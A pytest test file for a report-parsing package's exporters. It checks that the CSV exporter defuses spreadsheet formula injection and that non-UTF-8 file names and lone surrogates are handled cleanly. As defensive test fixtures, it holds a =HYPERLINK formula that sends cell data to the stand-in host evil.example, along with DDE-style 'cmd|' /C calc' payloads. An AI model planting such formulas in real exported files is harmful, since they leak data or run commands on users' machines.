"""Exporters safe to open: no formula runs from a CSV cell, no lone surrogate breaks a file.

Before (issue 15): a heading ``一、=HYPERLINK(…)`` went raw into a CSV cell, and a file name that
is not UTF-8 made the outline, markdown and html formats refuse a good report.
"""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path
from typing import Any, ClassVar

import pytest

import govreport
from govreport import cli
from govreport.exporters.csv import CsvExporter, neutralised
from govreport.model import Report

INJECTION = '一、=HYPERLINK("http://evil.example/?q="&A1,"点击")\n完成任务19项，同比增长5%。\n'


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote(start: str) -> None:
    assert neutralised(start + "cmd|' /C calc'!A0") == "'" + start + "cmd|' /C calc'!A0"


@pytest.mark.parametrize("cell", ["-5", "-0.25", "19", "1.5", "", "完成", "'=quoted already"])
def test_numbers_and_text_stay_as_they_are(cell: str) -> None:
    assert neutralised(cell) == cell


def test_a_formula_in_a_heading_is_neutralised_in_csv_and_kept_in_csv_raw() -> None:
    report = govreport.parse(INJECTION)
    assert report.outline[0].title.startswith("=HYPERLINK")
    (safe,) = {row["outline_titles"] for row in rows(CsvExporter().export(report))}
    assert safe.startswith("'=HYPERLINK(")
    raw = CsvExporter(name="csv-raw", neutralise=False).export(report)
    assert {row["outline_titles"] for row in rows(raw)} == {safe[1:]}


def test_csv_raw_is_a_format_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["formats"]) == 0
    names = [line.split()[0] for line in capsys.readouterr().out.splitlines()]
    assert {"csv", "csv-raw"} <= set(names)


@pytest.fixture
def undecodable_name(tmp_path: Path) -> Path:
    """A report saved under a name that is not UTF-8 (Python keeps its bytes as surrogates)."""
    path = tmp_path / os.fsdecode(b"\xb9\xa4\xd7\xf7\xb1\xa8\xb8\xe6.txt")  # 工作报告 in GBK
    try:
        path.write_text(INJECTION, "utf-8")
    except (UnicodeEncodeError, OSError):
        pytest.skip("this file system takes only UTF-8 names")
    return path


@pytest.mark.parametrize("format_name", ["json", "csv", "markdown", "outline"])
def test_a_file_name_that_is_not_utf8_does_not_stop_a_good_report(
    undecodable_name: Path, tmp_path: Path, format_name: str
) -> None:
    out = tmp_path / "out"
    assert cli.main(["parse", str(undecodable_name), "-f", format_name, "-o", str(out)]) == 0
    out.read_bytes().decode("utf-8")  # the file loads as UTF-8


def test_the_text_formats_write_surrogates_as_u_fffd() -> None:
    report = govreport.parse("一、总\ud800体\n完成19项\udfff。\n", source="a\udcb9.txt")
    for exporter in govreport.PluginHost(load_entrypoints=False).exporters.values():
        if exporter.binary:
            continue
        output = exporter.export(report)
        assert isinstance(output, str)
        output.encode("utf-8")
        if exporter.name not in {"json", "jsonl"}:  # they escape them (\ud800) and load back
            assert "\ufffd" in output


def test_a_plugin_exporter_that_writes_a_surrogate_is_refused_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    class Careless:
        name: ClassVar[str] = "careless"
        suffix: ClassVar[str] = ".txt"
        media_type: ClassVar[str] = "text/plain"
        binary: ClassVar[bool] = False

        def export(self, report: Report) -> str:
            return "\ud800"

    class Plugin:
        __name__ = "careless"

        @govreport.hookimpl
        def register_exporters(self, register: Any) -> None:
            register(Careless())

    def make_host(strict: bool = True) -> Any:
        return govreport.PluginHost(plugins=[Plugin()], load_entrypoints=False)

    monkeypatch.setattr(cli, "default_host", make_host)
    source = tmp_path / "report.txt"
    source.write_text(INJECTION, "utf-8")
    out = tmp_path / "out.txt"
    assert cli.main(["parse", str(source), "-f", "careless", "-o", str(out)]) == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert "U+D800" in line
    assert not out.exists()
